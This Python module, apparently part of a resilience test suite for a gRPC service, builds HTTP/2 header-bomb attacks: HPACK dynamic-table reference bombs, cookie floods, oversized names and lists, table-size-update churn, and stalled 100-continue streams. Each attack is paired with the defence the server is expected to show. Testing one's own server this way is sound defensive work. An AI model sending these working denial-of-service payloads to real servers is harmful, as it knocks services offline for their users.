"""Header bombs."""
from attacker import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, frame, grpc_block, request
from catalog import SERVED, attack
from on_streams import CALM, LIST, REFUSED, TOO_MANY, WATCH, run, streams


def in_frames(stream, block):
    pieces = [block[i:i + 16_000] for i in range(0, len(block), 16_000)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    return b"".join(
        frame(kind, (END_STREAM if kind == HEADERS else 0) | (END_HEADERS if i == len(pieces) - 1 else 0), stream, piece)
        for i, (kind, piece) in enumerate(zip(kinds, pieces)))


@attack(24, "the table has 4 KiB, and fields beyond 16 KiB are dropped as they come", SERVED, CALM, "RST", counts=(50, 2_000))
def hpack_bombs(target, count):
    """HPACK bombs: a field of 4,000 bytes, then 15,000 references to it, in each request."""
    entry = literal(b"x", b"v" * 4000)
    return run(target, (in_frames(s, LIST + entry + b"\xbe" * 15_000) for s in streams(count)))


def literal(name, value):
    """A literal field that goes into the dynamic table (RFC 7541 §6.2.1)."""
    return b"\x40" + integer(len(name), 7) + name + integer(len(value), 7) + value


def integer(value, bits):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    out, value = bytearray([limit]), value - limit
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + bytes([value]))


@attack(100, "12 KiB of each of 4,096 streams", SERVED, counts=(1_000, 4_000))
def kept_fields(target, count):
    """12 KiB of fields for a few bytes, in calls that stay"""
    entry = literal(b"x", b"v" * 4000)
    return run(target, (request(s, WATCH + (entry if s == 1 else b"\xbe") + b"\xbe" * 2, b"", end=False) for s in streams(count)))


@attack(24, "fields beyond 16 KiB are dropped as they come", SERVED, CALM, "RST", counts=(200, 5_000))
def many_cookies(target, count):
    """6,000 cookies in each request."""
    return run(target, (in_frames(s, LIST + b"\x60\2ab" * 6_000) for s in streams(count)))


@attack(24, "fields beyond 16 KiB are dropped as they come", SERVED, CALM, "RST", counts=(200, 5_000))
def long_names(target, count):
    """Names of 16 KiB."""
    bomb = b"\0" + integer(16_200, 7) + b"n" * 16_200 + b"\1v"
    return run(target, (in_frames(s, LIST + bomb) for s in streams(count)))


@attack(24, "fields beyond 16 KiB are dropped as they come", SERVED, CALM, "RST", "GOAWAY", counts=(100, 2_000))
def long_lists(target, count):
    """Lists of 100 KiB in each request."""
    fields = b"".join(b"\0" + integer(20, 7) + b"%020d" % i + integer(80, 7) + b"v" * 80 for i in range(1000))
    return run(target, (in_frames(s, LIST + fields) for s in streams(count)))


@attack(24, "answers of a turn; the table never grows beyond 4 KiB", SERVED, CALM, TOO_MANY,
        "GOAWAY COMPRESSION_ERROR", counts=(2_000, 100_000))
def table_size_updates(target, count):
    """Table size updates back and forth, in each request."""
    return run(target, (request(s, b"\x20\x3f\xe1\x1f" + LIST, b"") for s in streams(count)))


@attack(48, "1,024 streams that wait for their first message", REFUSED, SERVED, counts=(2_000, 20_000),
        counted=("unstarted",))
def expectations(target, count):
    """Requests that expect 100-continue, and wait for it"""
    waiting = grpc_block("/gatehouse.tools.v1.Tools/List", ("expect", "100-continue"), ("content-length", "5"))
    return run(target, (request(s, waiting, end=False) for s in streams(count)))
